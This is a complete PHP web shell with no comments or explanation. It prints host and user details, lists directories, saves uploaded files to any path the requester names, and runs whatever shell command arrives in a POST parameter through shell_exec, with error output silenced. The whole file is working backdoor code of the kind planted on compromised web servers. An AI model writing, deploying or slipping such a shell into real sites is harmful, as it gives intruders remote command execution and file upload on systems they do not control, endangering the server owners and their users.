<?php
@set_time_limit(0); @error_reporting(0);
$act = isset($_POST['act']) ? $_POST['act'] : 'ls';
$dir = isset($_REQUEST['dir']) ? $_REQUEST['dir'] : getcwd();
echo '<pre>' . php_uname() . "\n";
$u = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid()) : array('name' => get_current_user());
echo 'User: ' . $u['name'] . ' Free: ' . disk_free_space($dir) . " safe_mode: " . (ini_get('safe_mode') ? 'on' : 'off') . "\n";
if ($act == 'ls') { foreach (scandir($dir) as $e) echo htmlspecialchars($e) . "\n"; }
if ($act == 'up' && isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $_FILES['f']['name']); }
if ($act == 'cmd') { echo shell_exec($_POST['cmd']); }
